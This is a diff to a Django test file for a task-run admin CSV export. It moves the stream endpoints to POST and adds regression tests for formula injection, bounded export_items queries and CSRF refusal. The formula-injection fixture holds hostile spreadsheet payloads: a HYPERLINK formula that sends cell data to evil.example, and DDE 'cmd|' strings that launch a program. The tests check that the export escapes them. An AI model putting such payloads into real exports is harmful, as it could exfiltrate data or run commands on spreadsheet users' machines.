@@ -2,6 +2,7 @@
 
 import csv
 import io
+import re
 from datetime import UTC, datetime, timedelta
 
 import pytest
@@ -24,7 +25,7 @@ from gyrinx_tasks.export import (
 from gyrinx_tasks.models import State, TaskExecution, Trigger
 from tests.test_admin import make_run, staff_user
 
-pytestmark = pytest.mark.django_db
+pytestmark = [pytest.mark.django_db, pytest.mark.clock]
 
 CHANGELIST = "admin:gyrinx_tasks_taskexecution_changelist"
 EXPORT = "admin:gyrinx_tasks_taskexecution_export"
@@ -192,7 +193,8 @@ def test_export_needs_the_export_permission(client, history):
     assert client.get(reverse(EXPORT)).status_code == 403
     assert client.post(reverse(EXPORT), export_form()).status_code == 403
     assert client.get(reverse(STREAM)).status_code == 403
-    assert client.get(reverse(STREAM_PAYLOAD)).status_code == 403
+    assert client.post(reverse(STREAM)).status_code == 403
+    assert client.post(reverse(STREAM_PAYLOAD)).status_code == 403
     assert not LogEntry.objects.exists()
 
 
@@ -200,7 +202,7 @@ def test_export_permission_alone_does_not_open_the_runs(client, history):
     exporter(client, "export_taskexecution")
     assert client.get(reverse(EXPORT)).status_code == 403
     assert client.post(reverse(EXPORT), export_form()).status_code == 403
-    assert client.get(reverse(STREAM)).status_code == 403
+    assert client.post(reverse(STREAM)).status_code == 403
     assert not LogEntry.objects.exists()
 
 
@@ -208,7 +210,7 @@ def test_changelist_links_carry_the_filters(client, history):
     exporter(client, "view_taskexecution", "export_taskexecution")
     page = client.get(reverse(CHANGELIST), {"status": "FAILED"}).content.decode()
     assert f'href="{reverse(EXPORT)}?status=FAILED" class="export_link"' in page
-    assert f'href="{reverse(STREAM)}?status=FAILED"' in page
+    assert f'href="{reverse(EXPORT)}?status=FAILED#gyrinx-stream"' in page
 
 
 def test_export_page_states_the_filters_and_picks_csv(client, history):
@@ -219,8 +221,9 @@ def test_export_page_states_the_filters_and_picks_csv(client, history):
     assert "filters: status=FAILED, search &#x27;abc&#x27;" in page
     assert '<option value="0" selected>csv</option>' in page
     assert "so it takes at most 100,000 runs" in page
-    assert f'href="{reverse(STREAM)}?status=FAILED&amp;q=abc"' in page
-    assert f'href="{reverse(STREAM_PAYLOAD)}?status=FAILED&amp;q=abc"' in page
+    assert f'<form method="post" action="{reverse(STREAM)}?status=FAILED&amp;q=abc">' in page
+    assert (f'<form method="post" action="{reverse(STREAM_PAYLOAD)}?status=FAILED&amp;q=abc">'
+            in page)
 
 
 def test_export_honours_filters_and_writes_a_log_entry(client, history):
@@ -289,13 +292,13 @@ def test_export_refuses_more_rows_than_it_builds_in_memory(client, history, monk
     # At the limit it exports; the stream has no limit.
     allowed = client.post(f"{reverse(EXPORT)}?task_name=explode", export_form())
     assert len(parse(allowed.content.decode())) == 2
-    assert len(parse(body(client.get(reverse(STREAM))))) == 4
+    assert len(parse(body(client.post(reverse(STREAM))))) == 4
 
 
 def test_export_with_unknown_filters_explains_instead_of_failing(client, history):
     exporter(client, "view_taskexecution", "export_taskexecution")
-    for url in (reverse(EXPORT), reverse(STREAM)):
-        response = client.get(f"{url}?no_such_field=1", follow=True)
+    for url, method in ((reverse(EXPORT), client.get), (reverse(STREAM), client.post)):
+        response = method(f"{url}?no_such_field=1", follow=True)
         assert response.redirect_chain[0] == (reverse(CHANGELIST), 302)
         assert "choose the filters there" in response.content.decode()
     assert not LogEntry.objects.exists()
@@ -311,7 +314,7 @@ def test_superuser_sees_and_uses_the_export(admin_client, history):
 
 def test_stream_honours_filters_and_logs_the_row_count(client, history):
     user = exporter(client, "view_taskexecution", "export_taskexecution")
-    response = client.get(reverse(STREAM), {"status": "SUCCESSFUL"})
+    response = client.post(f"{reverse(STREAM)}?status=SUCCESSFUL")
     assert response.status_code == 200 and response.streaming
     assert response["Content-Type"] == "text/csv; charset=utf-8"
     entry = LogEntry.objects.get()
@@ -329,7 +332,7 @@ def test_stream_honours_filters_and_logs_the_row_count(client, history):
 
 def test_stream_with_payload(client, history):
     exporter(client, "view_taskexecution", "export_taskexecution")
-    response = client.get(reverse(STREAM_PAYLOAD), {"q": history["failed"].result_id})
+    response = client.post(f"{reverse(STREAM_PAYLOAD)}?q={history['failed'].result_id}")
     rows = parse(body(response))
     assert [row["kwargs"] for row in rows] == ['{"email": "someone@example.com"}']
     assert "with args, kwargs and return value" in LogEntry.objects.get().change_message
@@ -338,7 +341,7 @@ def test_stream_with_payload(client, history):
 def test_stream_equals_the_admin_export_for_the_same_filter(client, history):
     exporter(client, "view_taskexecution", "export_taskexecution")
     exported = client.post(f"{reverse(EXPORT)}?trigger=enqueue", export_form()).content
-    assert body(client.get(reverse(STREAM), {"trigger": "enqueue"})) == exported.decode()
+    assert body(client.post(f"{reverse(STREAM)}?trigger=enqueue")) == exported.decode()
 
 
 def test_the_mixin_is_on_the_run_admin():
@@ -438,9 +441,9 @@ def test_browser_exports_a_filtered_list_as_csv(admin_page, live_server):
     assert [row["result_id"] for row in rows] == [run.result_id for run in reversed(failed)]
     assert {row["last_error_class"] for row in rows} == {"builtins.RuntimeError"}
 
-    # The stream link on the same page carries the same filter.
+    # The stream button on the same page carries the same filter (it posts).
     with page.expect_download() as download:
-        page.get_by_role("link", name="Stream CSV", exact=True).click()
+        page.get_by_role("button", name="Stream CSV", exact=True).click()
     with open(download.value.path(), encoding="utf-8", newline="") as file:
         assert [row["result_id"] for row in parse(file.read())] == [
             run.result_id for run in reversed(failed)]
@@ -448,3 +451,136 @@ def test_browser_exports_a_filtered_list_as_csv(admin_page, live_server):
     assert messages[0].startswith("Completed a streamed CSV export of runs (without payload; "
                                   "filters: status=FAILED); 3 rows.")
     assert messages[1].startswith("Exported 3 runs as CSV")
+
+
+# --- Spreadsheet formula injection (issue 17, item 10) ---------------------------------------
+# Before: cells were written as stored, so a task name, task id or message id taken from a
+# Pub/Sub message (or a negative result) reached the spreadsheet as a formula.
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+@pytest.fixture
+def hostile_runs():
+    """Runs whose every text column that a message controls starts like a formula."""
+    hostile = make_run(
+        '=HYPERLINK("http://evil.example/?"&A1,"Open")', State.FAILED,
+        task_id="+1+cmd|' /C calc'!A0", message_id="@SUM(1+1)*cmd|' /C calc'!A0",
+        attempts=1, created_at=at(0),
+        errors=[{"exception_class_path": "-2+3+cmd|' /C calc'!A0"}],
+        args=["=1+1"], kwargs={"k": "=1+1"})
+    retry = make_run("add", State.SUCCESSFUL, trigger=Trigger.RETRY, retry_of=hostile,
+                     created_at=at(1), return_value=-5, args=[-1, -4])
+    # Tab and CR first, too (Excel drops them and reads the rest).
+    make_run("\t=1+2", State.READY, task_id="\r=1+3", created_at=at(2))
+    return hostile, retry
+
+
+def assert_no_formula(rows):
+    cells = [cell for row in rows for cell in row]
+    assert cells, "nothing was exported"
+    formulas = [cell for cell in cells if str(cell).startswith(FORMULA_STARTS)]
+    assert formulas == []
+    return cells
+
+
+def test_no_export_writes_a_cell_a_spreadsheet_would_evaluate(admin_client, hostile_runs):
+    hostile, retry = hostile_runs
+    exported = admin_client.post(reverse(EXPORT), export_form(resource=1)).content.decode()
+    streamed_text = body(admin_client.post(reverse(STREAM_PAYLOAD)))
+    command = run_command("--include-payload", "--include-redacted")[0]
+    for text in (exported, streamed_text, command):
+        rows = list(csv.reader(io.StringIO(text)))
+        cells = assert_no_formula(rows)
+        # Escaped, not dropped: the value is still there after the apostrophe.
+        assert """'=HYPERLINK("http://evil.example/?"&A1,"Open")""" in cells
+        assert "'+1+cmd|' /C calc'!A0" in cells and "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
+        assert "'-2+3+cmd|' /C calc'!A0" in cells  # last_error_class
+        assert "'-5" in cells  # a negative return value
+        assert "'\t=1+2" in cells and "'\r=1+3" in cells
+        by_id = {row[0]: row for row in rows[1:]}
+        assert by_id[retry.result_id][headers().index("retry_of")] == hostile.result_id
+
+
+def test_every_import_export_format_gets_escaped_cells(hostile_runs):
+    # The widget escapes, so every tablib format (XLSX, ODS, JSON...) gets the same cells.
+    queryset = TaskExecution.objects.all()
+    for resource in (TaskExecutionResource(), TaskExecutionPayloadResource(reveal_redacted=True)):
+        assert_no_formula(resource.export(queryset))
+
+
+# --- Bounded work: export_items (issue 17, item 12) ------------------------------------------
+# Before: a POST naming runs in export_items made import-export read every pk in the table as
+# the field's choices and scan them once per value (seconds at 20k runs, minutes at 1M).
+
+def unfiltered_id_reads(captured):
+    """Queries that read the run table without a WHERE: a read of the whole table."""
+    return [q["sql"] for q in captured.captured_queries
+            if 'FROM "gyrinx_tasks_taskexecution"' in q["sql"] and "WHERE" not in q["sql"]]
+
+
+def test_export_items_reads_only_the_named_runs(client, history):
+    exporter(client, "view_taskexecution", "export_taskexecution")
+    named = [history["failed"].pk, history["ready"].pk]
+    with CaptureQueriesContext(connection) as captured:
+        response = client.post(reverse(EXPORT), {**export_form(), "export_items": named})
+    assert response.status_code == 200
+    assert {row["result_id"] for row in parse(response.content.decode())} == {
+        history["failed"].result_id, history["ready"].result_id}
+    assert unfiltered_id_reads(captured) == []
+    assert "Exported 2 runs" in LogEntry.objects.get().change_message
+
+
+@pytest.mark.parametrize("items, sentence", [
+    ([str(n) for n in range(1, 202)], "at most 200 runs by id, and this one names 201"),
+    (["1", "x"], "export_items must be run ids"),
+    (["1e400"], "export_items must be run ids"),
+    (["9" * 5000], "export_items must be run ids"),
+])
+def test_export_items_beyond_the_bound_is_a_400_with_a_sentence(client, history, items,
+                                                                 sentence):
+    exporter(client, "view_taskexecution", "export_taskexecution")
+    with CaptureQueriesContext(connection) as captured:
+        response = client.post(reverse(EXPORT), {**export_form(), "export_items": items})
+    assert response.status_code == 400
+    assert sentence in response.content.decode()
+    assert not [q for q in captured.captured_queries
+                if 'FROM "gyrinx_tasks_taskexecution"' in q["sql"]]
+    assert not LogEntry.objects.exists()
+
+
+def test_export_items_still_needs_the_export_permission(client, history):
+    exporter(client, "view_taskexecution")
+    response = client.post(reverse(EXPORT), {**export_form(), "export_items": ["1"] * 500})
+    assert response.status_code == 403
+
+
+# --- Nothing changes on GET (issue 17, item 13) ----------------------------------------------
+# Before: a GET of the stream (a link or an <img> on any site, followed by a logged-in staff
+# member's browser) exported the runs, payload included, and wrote the audit entry.
+
+@pytest.mark.parametrize("stream", [STREAM, STREAM_PAYLOAD])
+def test_a_get_of_the_stream_exports_nothing_and_writes_nothing(client, history, stream):
+    exporter(client, "view_taskexecution", "export_taskexecution")
+    response = client.get(reverse(stream), {"status": "FAILED"})
+    assert response.status_code == 302 and not response.streaming
+    # To the export page, whose buttons post, with the same filters.
+    assert response.url == f"{reverse(EXPORT)}?status=FAILED#gyrinx-stream"
+    assert "someone@example.com" not in response.content.decode()
+    assert not LogEntry.objects.exists()
+
+
+def test_a_cross_site_post_of_the_stream_is_refused(history):
+    from django.test import Client
+
+    user = staff_user("exporter", "view_taskexecution", "export_taskexecution")
+    browser = Client(enforce_csrf_checks=True)
+    browser.force_login(user)
+    assert browser.post(reverse(STREAM_PAYLOAD)).status_code == 403  # no CSRF token
+    assert not LogEntry.objects.exists()
+    # The export page's own form carries the token, and works.
+    page = browser.get(reverse(EXPORT)).content.decode()
+    token = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', page).group(1)
+    response = browser.post(reverse(STREAM_PAYLOAD), {"csrfmiddlewaretoken": token})
+    assert response.status_code == 200 and len(parse(body(response))) == 4
+    assert LogEntry.objects.get().change_message.startswith("Completed a streamed CSV export")
